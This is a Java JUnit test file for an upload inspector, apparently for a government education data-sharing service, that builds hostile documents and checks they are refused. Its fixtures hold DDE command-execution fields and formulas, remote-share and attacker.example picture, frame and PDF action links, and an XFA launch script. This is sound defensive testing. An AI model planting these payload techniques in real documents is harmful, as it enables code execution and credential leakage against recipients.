package uk.gov.education.datasharing.intake.inspect;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigInteger;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.cert.X509Certificate;
import java.util.Date;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.PublicKeyProtectionPolicy;
import org.apache.pdfbox.pdmodel.encryption.PublicKeyRecipient;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.poi.poifs.filesystem.DirectoryEntry;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.bouncycastle.asn1.x500.X500Name;
import org.bouncycastle.cert.jcajce.JcaX509CertificateConverter;
import org.bouncycastle.cert.jcajce.JcaX509v3CertificateBuilder;
import org.bouncycastle.operator.jcajce.JcaContentSignerBuilder;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

import uk.gov.education.datasharing.intake.Documents;
import uk.gov.education.datasharing.intake.model.FileCheck.Verdict;
import uk.gov.education.datasharing.intake.model.ProblemCode;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The classes of file that the corpus review (issue 10) found accepted, refused for the wrong reason or wrongly
 * quarantined, each built here: the hostile example refused as unsafe, its clean twin accepted (or asked for in
 * another format, for formats we never accept).
 */
@Timeout(30)
class FileClassesTest {

    private static final String W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
    private static final String MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

    @TempDir
    Path dir;

    private FilePolicy.Judgement judge(String name, byte[] content) throws IOException {
        return new FileInspectorTest().judgeIn(dir, name, content);
    }

    private static List<ProblemCode> codes(FilePolicy.Judgement j) {
        return FileInspectorTest.codes(j);
    }

    private void assertUnsafe(String name, byte[] content, ProblemCode expected) throws IOException {
        var j = judge(name, content);
        assertThat(j.check().verdict()).as(name).isEqualTo(Verdict.UNSAFE);
        assertThat(codes(j)).as(name).contains(expected);
    }

    private void assertAccepted(String name, byte[] content) throws IOException {
        var j = judge(name, content);
        assertThat(j.findings()).as(name).isEmpty();
        assertThat(j.check().verdict()).as(name).isEqualTo(Verdict.ACCEPTED);
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static String field(String... instructionsAndNested) {
        StringBuilder runs = new StringBuilder();
        for (String piece : instructionsAndNested) {
            runs.append(piece.startsWith("<") ? piece : "<w:r><w:instrText xml:space=\"preserve\">" + Documents.escape(piece) + "</w:instrText></w:r>");
        }
        return "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + runs + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
                + "<w:r><w:t>result</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
    }

    private static byte[] docWithParagraph(String paragraphContent) {
        return Documents.docxWithBody("<w:p>" + paragraphContent + "</w:p>");
    }

    // --- Word: the part Office opens, every story, nested fields ---

    /** A clean decoy word/document.xml, and the part _rels/.rels names as the document carrying DDE and a share picture. */
    private static byte[] withMainPart(String body) {
        byte[] docx = Documents.docx("a clean decoy");
        String types = new String(Documents.read(docx, "[Content_Types].xml"), StandardCharsets.UTF_8).replace("</Types>",
                "<Override PartName=\"/word/body.xml\" ContentType=\"" + Documents.DOCX_MAIN + "\"/></Types>");
        String rels = new String(Documents.read(docx, "_rels/.rels"), StandardCharsets.UTF_8).replace("word/document.xml", "word/body.xml");
        String part = "<w:document " + W + "><w:body>" + body + "</w:body></w:document>";
        return Documents.edit(docx, Map.of("[Content_Types].xml", utf8(types), "_rels/.rels", utf8(rels), "word/body.xml", utf8(part)));
    }

    @Test
    void theMainPartIsTheOneTheRootRelationshipsNameNotTheOneCalledDocumentXml() throws IOException {
        String hostile = "<w:p>" + field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"") + "</w:p>"
                + "<w:p>" + field("INCLUDEPICTURE \"\\\\\\\\attacker.example\\\\share\\\\a.png\" \\d") + "</w:p>";
        var j = judge("form.docx", withMainPart(hostile));
        assertThat(j.check().verdict()).isEqualTo(Verdict.UNSAFE);
        assertThat(codes(j)).contains(ProblemCode.FILE_HAS_DDE, ProblemCode.FILE_LOADS_REMOTE_CONTENT);
        assertAccepted("form.docx", withMainPart("<w:p><w:r><w:t>the real text</w:t></w:r></w:p>"));
    }

    @Test
    void fieldsInEveryStoryAreRead() throws IOException {
        String dde = "<w:p>" + field("DDEAUTO cmd \"/c calc\"") + "</w:p>";
        for (String story : List.of("header1", "footer2", "footnotes", "endnotes", "comments", "glossary/document")) {
            String root = story.equals("footnotes") || story.equals("endnotes") ? "w:" + story : story.equals("comments") ? "w:comments"
                    : story.startsWith("glossary") ? "w:glossaryDocument" : story.startsWith("header") ? "w:hdr" : "w:ftr";
            byte[] hostile = Documents.docxWith("word/" + story + ".xml", "<" + root + " " + W + ">" + dde + "</" + root + ">");
            byte[] clean = Documents.docxWith("word/" + story + ".xml", "<" + root + " " + W + "><w:p><w:r><w:t>page</w:t></w:r></w:p></" + root + ">");
            assertUnsafe(story, hostile, ProblemCode.FILE_HAS_DDE);
            assertAccepted(story + " (clean)", clean);
        }
    }

    @Test
    void aStoryNamedByItsContentTypeIsReadWhateverItIsCalled() throws IOException {
        byte[] docx = Documents.docxWith("word/notes-elsewhere.xml",
                "<w:ftr " + W + "><w:p>" + field("DDE cmd \"/c calc\"") + "</w:p></w:ftr>");
        String types = new String(Documents.read(docx, "[Content_Types].xml"), StandardCharsets.UTF_8).replace("</Types>",
                "<Override PartName=\"/word/notes-elsewhere.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml\"/></Types>");
        assertUnsafe("form.docx", Documents.edit(docx, Map.of("[Content_Types].xml", utf8(types))), ProblemCode.FILE_HAS_DDE);
    }

    @Test
    void nestedFieldsAreReadAsWordEvaluatesThem() throws IOException {
        String quote = field("QUOTE 67 58 92 87 105 110");
        assertUnsafe("dde-with-nested-quote", docWithParagraph(field("DDEAUTO ", quote, " \"/k calc\"")), ProblemCode.FILE_HAS_DDE);
        assertUnsafe("command-built-by-a-field", docWithParagraph(field(field("QUOTE \"DDEAUTO\""), " cmd \"/c calc\"")), ProblemCode.FILE_HAS_DDE);
        assertUnsafe("picture-from-a-share-in-a-nested-field",
                docWithParagraph(field("INCLUDEPICTURE \"", field("QUOTE \"\\\\\\\\attacker.example\\\\s\\\\a.png\""), "\" \\d")),
                ProblemCode.FILE_LOADS_REMOTE_CONTENT);
        assertUnsafe("picture-whose-target-a-field-builds",
                docWithParagraph(field("INCLUDEPICTURE \"", field("MERGEFIELD where"), "\" \\d")), ProblemCode.FILE_LOADS_REMOTE_CONTENT);
        // the clean twins: fields that nest others every day
        assertAccepted("if-with-mergefield", docWithParagraph(field("IF ", field("MERGEFIELD answer"), " = \"yes\" \"a\" \"b\"")));
        assertAccepted("page-arithmetic", docWithParagraph(field("= ", field("PAGE"), " + 1")));
        assertAccepted("local-picture", docWithParagraph(field("INCLUDEPICTURE \"media/logo.png\"")));
    }

    @Test
    void framesInWebSettingsAreRemoteContent() throws IOException {
        byte[] docx = Documents.docx("framed");
        String webSettings = "<w:webSettings " + W + " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
                + "<w:frameset><w:frame><w:name w:val=\"f\"/><w:sourceFileName r:id=\"rId99\"/></w:frame></w:frameset></w:webSettings>";
        byte[] hostile = Documents.edit(docx, Map.of("word/webSettings.xml", utf8(webSettings), "word/_rels/webSettings.xml.rels",
                utf8(Documents.relationships("frame", "https://attacker.example/frame.docx", true))));
        byte[] clean = Documents.edit(docx, Map.of("word/webSettings.xml", utf8("<w:webSettings " + W + "><w:optimizeForBrowser/></w:webSettings>")));
        assertUnsafe("framed.docx", hostile, ProblemCode.FILE_LOADS_REMOTE_CONTENT);
        assertAccepted("plain.docx", clean);
    }

    // --- Excel: DDE anywhere, query tables, pivot caches, macro sheets ---

    private static byte[] workbookWithFormula(String formula) {
        byte[] workbook = Documents.xlsx(Map.of("Sheet1", new String[][] {{"a"}}));
        String sheet = new String(Documents.read(workbook, "xl/worksheets/sheet1.xml"), StandardCharsets.UTF_8)
                .replace("</sheetData>", "<row r=\"5\"><c r=\"A5\"><f>" + Documents.escape(formula) + "</f></c></row></sheetData>");
        return Documents.edit(workbook, Map.of("xl/worksheets/sheet1.xml", utf8(sheet)));
    }

    @Test
    void ddeAnywhereInAFormulaOrADefinedNameIsUnsafe() throws IOException {
        for (String formula : List.of("1+cmd|' /C calc'!A0", "SUM(1,cmd|'/c calc'!A0)", "'cmd'|'/c calc'!A0", "=-msexcel|'\\..\\..\\cmd'!''")) {
            assertUnsafe(formula, workbookWithFormula(formula), ProblemCode.FILE_HAS_DDE);
        }
        for (String formula : List.of("'Sheet|1'!A1+1", "\"a|b!\"&A1", "SUM(A1:A4)", "IF(A1=\"x|y\",1,0)")) {
            assertAccepted(formula, workbookWithFormula(formula));
        }
        byte[] workbook = Documents.xlsx(Map.of("Sheet1", new String[][] {{"a"}}));
        String named = new String(Documents.read(workbook, "xl/workbook.xml"), StandardCharsets.UTF_8)
                .replace("</workbook>", "<definedNames><definedName name=\"run\">cmd|'/c calc'!A0</definedName></definedNames></workbook>");
        assertUnsafe("defined-name.xlsx", Documents.edit(workbook, Map.of("xl/workbook.xml", utf8(named))), ProblemCode.FILE_HAS_DDE);
    }

    @Test
    void queryTablesAndExternalPivotCachesAreRemoteContentButAnInternalPivotIsNot() throws IOException {
        byte[] workbook = Documents.xlsx(Map.of("Sheet1", new String[][] {{"a"}}));
        byte[] query = Documents.edit(workbook, Map.of("xl/queryTables/queryTable1.xml",
                utf8("<queryTable xmlns=\"" + MAIN + "\" name=\"q\" connectionId=\"1\"/>")));
        byte[] external = Documents.edit(workbook, Map.of("xl/pivotCache/pivotCacheDefinition1.xml",
                utf8("<pivotCacheDefinition xmlns=\"" + MAIN + "\"><cacheSource type=\"external\" connectionId=\"1\"/></pivotCacheDefinition>")));
        byte[] otherBook = Documents.edit(workbook, Map.of("xl/pivotCache/pivotCacheDefinition1.xml",
                utf8("<pivotCacheDefinition xmlns=\"" + MAIN + "\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
                        + "<cacheSource type=\"worksheet\"><worksheetSource ref=\"A1:B9\" sheet=\"S\" r:id=\"rId1\"/></cacheSource></pivotCacheDefinition>")));
        byte[] internal = Documents.edit(workbook, Map.of("xl/pivotCache/pivotCacheDefinition1.xml",
                utf8("<pivotCacheDefinition xmlns=\"" + MAIN + "\"><cacheSource type=\"worksheet\"><worksheetSource ref=\"A1:B9\" sheet=\"Sheet1\"/>"
                        + "</cacheSource></pivotCacheDefinition>")));
        assertUnsafe("query.xlsx", query, ProblemCode.FILE_LOADS_REMOTE_CONTENT);
        assertUnsafe("external-pivot.xlsx", external, ProblemCode.FILE_LOADS_REMOTE_CONTENT);
        assertUnsafe("other-book-pivot.xlsx", otherBook, ProblemCode.FILE_LOADS_REMOTE_CONTENT);
        assertAccepted("internal-pivot.xlsx", internal);
    }

    @Test
    void anExcel4MacroSheetInAnOrdinaryWorkbookIsAMacro() throws IOException {
        byte[] workbook = Documents.xlsx(Map.of("Sheet1", new String[][] {{"a"}}));
        byte[] hostile = Documents.edit(workbook, Map.of("xl/macrosheets/sheet1.xml",
                utf8("<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>")));
        assertUnsafe("tables.xlsx", hostile, ProblemCode.FILE_HAS_MACROS);
    }

    // --- Legacy binary Office: inside the streams ---

    /** A PowerPoint 97-2003 file whose document stream holds the given records (each type with an empty body), in a container. */
    static byte[] ppt(int... recordTypes) {
        ByteBuffer records = ByteBuffer.allocate(8 + recordTypes.length * 8 + 8).order(ByteOrder.LITTLE_ENDIAN);
        records.putShort((short) 0x000F).putShort((short) 0x03E8).putInt(recordTypes.length * 8 + 8); // Document container
        for (int type : recordTypes) {
            records.putShort((short) 0).putShort((short) type).putInt(0);
        }
        records.putShort((short) 0).putShort((short) 0x03EA).putInt(0); // EndDocument
        return ole(Map.of("PowerPoint Document", records.array(), "Current User", new byte[64]));
    }

    static byte[] ole(Map<String, byte[]> streams) {
        try (POIFSFileSystem fs = new POIFSFileSystem()) {
            for (var stream : streams.entrySet()) {
                DirectoryEntry dir = fs.getRoot();
                String[] path = stream.getKey().split("/");
                for (int i = 0; i < path.length - 1; i++) {
                    dir = dir.hasEntry(path[i]) ? (DirectoryEntry) dir.getEntry(path[i]) : dir.createDirectory(path[i]);
                }
                if (!path[path.length - 1].isEmpty()) {
                    dir.createDocument(path[path.length - 1], new ByteArrayInputStream(stream.getValue()));
                }
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @Test
    void vbaAndObjectsInsideALegacyPresentationAreUnsafe() throws IOException {
        assertUnsafe("slides.ppt", ppt(0x03FF), ProblemCode.FILE_HAS_MACROS);
        assertUnsafe("slides.ppt", ppt(0x1011), ProblemCode.FILE_HAS_EMBEDDED_OBJECTS);
        assertUnsafe("slides.ppt", ppt(0x0FCC), ProblemCode.FILE_HAS_EMBEDDED_OBJECTS);
        assertUnsafe("slides.ppt", ppt(0x0FEE), ProblemCode.FILE_HAS_EMBEDDED_OBJECTS);
        assertUnsafe("slides.ppt", ppt(0x0FCE), ProblemCode.FILE_LOADS_REMOTE_CONTENT);
        var clean = judge("slides.ppt", ppt(0x03EF, 0x0FF0));
        assertThat(codes(clean)).containsExactly(ProblemCode.FORMAT_NOT_ACCEPTED);
    }

    @Test
    void anOle10NativePackageBelowTheTopLevelIsAnEmbeddedObjectButAnEmptyObjectPoolIsNot() throws IOException {
        byte[] deep = ole(Map.of("WordDocument", new byte[4096], "1Table", new byte[4096],
                "Attachments/_1234/\u0001Ole10Native", new byte[256]));
        byte[] emptyPool = ole(Map.of("WordDocument", new byte[4096], "1Table", new byte[4096], "ObjectPool/", new byte[0]));
        byte[] fullPool = ole(Map.of("WordDocument", new byte[4096], "1Table", new byte[4096], "ObjectPool/_1234/\u0001CompObj", new byte[64]));
        assertUnsafe("form.doc", deep, ProblemCode.FILE_HAS_EMBEDDED_OBJECTS);
        assertUnsafe("form.doc", fullPool, ProblemCode.FILE_HAS_EMBEDDED_OBJECTS);
        assertThat(codes(judge("form.doc", emptyPool))).containsExactly(ProblemCode.SEND_AS_DOCX);
    }

    /** An Excel 97-2003 workbook stream: BOF, one BOUNDSHEET of the given sheet type, EOF. */
    static byte[] xlsWithSheetType(int sheetType) {
        byte[] name = "Macro1".getBytes(StandardCharsets.ISO_8859_1);
        ByteBuffer b = ByteBuffer.allocate(4 + 16 + 4 + 8 + name.length + 4).order(ByteOrder.LITTLE_ENDIAN);
        b.putShort((short) 0x0809).putShort((short) 16).putShort((short) 0x0600).putShort((short) 0x0005).put(new byte[12]);
        b.putShort((short) 0x0085).putShort((short) (8 + name.length)).putInt(0).put((byte) 0).put((byte) sheetType)
                .put((byte) name.length).put((byte) 0).put(name);
        b.putShort((short) 0x000A).putShort((short) 0);
        return ole(Map.of("Workbook", java.util.Arrays.copyOf(b.array(), 4096)));
    }

    @Test
    void anExcel4MacroSheetOrVbaModuleInALegacyWorkbookIsAMacro() throws IOException {
        assertUnsafe("tables.xls", xlsWithSheetType(1), ProblemCode.FILE_HAS_MACROS);
        assertUnsafe("tables.xls", xlsWithSheetType(6), ProblemCode.FILE_HAS_MACROS);
        assertThat(codes(judge("tables.xls", xlsWithSheetType(0)))).containsExactly(ProblemCode.SEND_AS_XLSX);
    }

    // --- OpenDocument ---

    /** An OpenDocument text file: mimetype first and stored, as the format requires. */
    static byte[] odt(Map<String, String> parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            byte[] mimetype = "application/vnd.oasis.opendocument.text".getBytes(StandardCharsets.US_ASCII);
            ZipEntry first = new ZipEntry("mimetype");
            first.setMethod(ZipEntry.STORED);
            first.setSize(mimetype.length);
            CRC32 crc = new CRC32();
            crc.update(mimetype);
            first.setCrc(crc.getValue());
            zip.putNextEntry(first);
            zip.write(mimetype);
            Map<String, String> all = new HashMap<>(Map.of("content.xml",
                    "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\"><office:scripts/>"
                            + "<office:body><office:text/></office:body></office:document-content>",
                    "META-INF/manifest.xml", "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\">"
                            + "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.text\"/>"
                            + "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/></manifest:manifest>"));
            all.putAll(parts);
            for (var part : all.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(utf8(part.getValue()));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    @Test
    void encryptedOrScriptedOpenDocumentIsUnsafeAndAPlainOneIsAskedForAsDocx() throws IOException {
        String encryptedManifest = "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\">"
                + "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\">"
                + "<manifest:encryption-data manifest:checksum-type=\"SHA1/1K\"><manifest:algorithm manifest:algorithm-name=\"Blowfish CFB\"/>"
                + "</manifest:encryption-data></manifest:file-entry></manifest:manifest>";
        assertUnsafe("form.odt", odt(Map.of("META-INF/manifest.xml", encryptedManifest, "content.xml", "\u0001\u0002 ciphertext")),
                ProblemCode.FILE_ENCRYPTED);
        assertUnsafe("form.odt", odt(Map.of("Basic/Standard/Module1.xml", "<script:module xmlns:script=\"http://openoffice.org/2000/script\"/>")),
                ProblemCode.FILE_HAS_MACROS);
        String listener = "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
                + " xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\"><office:scripts><office:event-listeners>"
                + "<script:event-listener script:language=\"ooo:script\" script:event-name=\"dom:load\""
                + " xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document\""
                + " xmlns:xlink=\"http://www.w3.org/1999/xlink\"/></office:event-listeners></office:scripts></office:document-content>";
        assertUnsafe("form.odt", odt(Map.of("content.xml", listener)), ProblemCode.FILE_HAS_MACROS);
        assertThat(codes(judge("form.odt", odt(Map.of())))).containsExactly(ProblemCode.SEND_AS_DOCX);
    }

    // --- PDF ---

    private static byte[] pdfWithAttachment(boolean annotation) {
        return Documents.pdfEdited(doc -> {
            PDEmbeddedFile file = new PDEmbeddedFile(doc, new ByteArrayInputStream(Documents.zip(Map.of("a.txt", utf8("inside")))));
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile("inside.zip");
            spec.setEmbeddedFile(file);
            if (annotation) {
                PDAnnotationFileAttachment attachment = new PDAnnotationFileAttachment();
                attachment.setFile(spec);
                doc.getPage(0).getAnnotations().add(attachment);
            } else {
                PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
                tree.setNames(Map.of("inside.zip", spec));
                PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
                names.setEmbeddedFiles(tree);
                doc.getDocumentCatalog().setNames(names);
            }
        });
    }

    @Test
    void aPdfWithAnEmbeddedFileOrAttachmentIsUnsafe() throws IOException {
        assertUnsafe("evidence.pdf", pdfWithAttachment(false), ProblemCode.FILE_HAS_EMBEDDED_OBJECTS);
        assertUnsafe("evidence.pdf", pdfWithAttachment(true), ProblemCode.FILE_HAS_EMBEDDED_OBJECTS);
        assertAccepted("evidence.pdf", Documents.pdf("an ordinary page"));
    }

    private static byte[] pdfWithAction(String type, String key, COSString value, boolean onOpen) {
        return Documents.pdfEdited(doc -> {
            COSDictionary action = new COSDictionary();
            action.setItem(COSName.TYPE, COSName.getPDFName("Action"));
            action.setItem(COSName.S, COSName.getPDFName(type));
            action.setItem(COSName.getPDFName(key), value);
            if (onOpen) {
                doc.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, action);
            } else {
                PDAnnotationLink link = new PDAnnotationLink();
                link.getCOSObject().setItem(COSName.A, action);
                doc.getPage(0).getAnnotations().add(link);
            }
        });
    }

    @Test
    void everyPdfActionThatLeavesTheDocumentIsUnsafeButAClickableWebLinkIsNot() throws IOException {
        for (String type : List.of("GoToR", "GoToE", "Launch", "SubmitForm", "ImportData")) {
            assertUnsafe(type, pdfWithAction(type, "F", new COSString("\\\\attacker.example\\share\\x.pdf"), false), ProblemCode.PDF_HAS_SCRIPTS);
        }
        assertUnsafe("open-url", pdfWithAction("URI", "URI", new COSString("https://attacker.example/track"), true),
                ProblemCode.FILE_LOADS_REMOTE_CONTENT);
        assertUnsafe("share-link", pdfWithAction("URI", "URI", new COSString("file://attacker.example/share/x"), false),
                ProblemCode.FILE_LOADS_REMOTE_CONTENT);
        byte[] link = Documents.pdfEdited(doc -> {
            PDAnnotationLink annotation = new PDAnnotationLink();
            PDActionURI uri = new PDActionURI();
            uri.setURI("https://www.gov.uk/");
            annotation.setAction(uri);
            doc.getPage(0).getAnnotations().add(annotation);
        });
        assertAccepted("link.pdf", link);
    }

    private static byte[] pdfWithXfa(String xfa) {
        return Documents.pdfEdited(doc -> {
            PDAcroForm form = new PDAcroForm(doc);
            COSStream stream = doc.getDocument().createCOSStream();
            try (var out = stream.createOutputStream()) {
                out.write(utf8(xfa));
            }
            COSArray parts = new COSArray();
            parts.add(new COSString("template"));
            parts.add(stream);
            form.getCOSObject().setItem(COSName.getPDFName("XFA"), parts);
            doc.getDocumentCatalog().setAcroForm(form);
        });
    }

    @Test
    void anXfaFormWithAScriptIsUnsafeAndOneWithoutIsNot() throws IOException {
        assertUnsafe("form.pdf", pdfWithXfa("<template xmlns=\"http://www.xfa.org/schema/xfa-template/3.3/\"><subform><event activity=\"initialize\">"
                + "<script contentType=\"application/x-javascript\">app.launchURL('https://attacker.example')</script></event></subform></template>"),
                ProblemCode.PDF_HAS_SCRIPTS);
        assertAccepted("form.pdf", pdfWithXfa("<template xmlns=\"http://www.xfa.org/schema/xfa-template/3.3/\"><subform><field name=\"a\"/></subform></template>"));
    }

    @Test
    void richMediaInAPdfIsAnEmbeddedObject() throws IOException {
        byte[] flash = Documents.pdfEdited(doc -> {
            PDAnnotationLink annotation = new PDAnnotationLink();
            annotation.getCOSObject().setItem(COSName.SUBTYPE, COSName.getPDFName("RichMedia"));
            doc.getPage(0).getAnnotations().add(annotation);
        });
        assertUnsafe("movie.pdf", flash, ProblemCode.FILE_HAS_EMBEDDED_OBJECTS);
    }

    @Test
    void aPdfEncryptedToACertificateIsEncryptedNotDamaged() throws Exception {
        KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
        generator.initialize(2048);
        KeyPair keys = generator.generateKeyPair();
        X500Name name = new X500Name("CN=Recipient");
        X509Certificate certificate = new JcaX509CertificateConverter().getCertificate(new JcaX509v3CertificateBuilder(name, BigInteger.ONE,
                new Date(), new Date(System.currentTimeMillis() + 86_400_000L), name, keys.getPublic())
                .build(new JcaContentSignerBuilder("SHA256withRSA").build(keys.getPrivate())));
        byte[] sealed = Documents.pdfEdited(doc -> {
            PublicKeyProtectionPolicy policy = new PublicKeyProtectionPolicy();
            PublicKeyRecipient recipient = new PublicKeyRecipient();
            recipient.setX509(certificate);
            recipient.setPermission(new AccessPermission());
            policy.addRecipient(recipient);
            policy.setEncryptionKeyLength(128);
            doc.protect(policy);
        });
        assertUnsafe("evidence.pdf", sealed, ProblemCode.FILE_ENCRYPTED);
        var damaged = judge("evidence.pdf", java.util.Arrays.copyOf(Documents.pdf("cut short"), 300));
        assertThat(codes(damaged)).containsExactly(ProblemCode.FILE_DAMAGED);
    }

    // --- Programs and help files by content ---

    @Test
    void aHelpFileIsAProgramWhateverItIsCalled() throws IOException {
        byte[] chm = new byte[512];
        System.arraycopy("ITSF".getBytes(StandardCharsets.US_ASCII), 0, chm, 0, 4);
        chm[4] = 3;
        chm[8] = 0x60;
        assertUnsafe("evidence.pdf", chm, ProblemCode.FILE_IS_PROGRAM);
    }
}
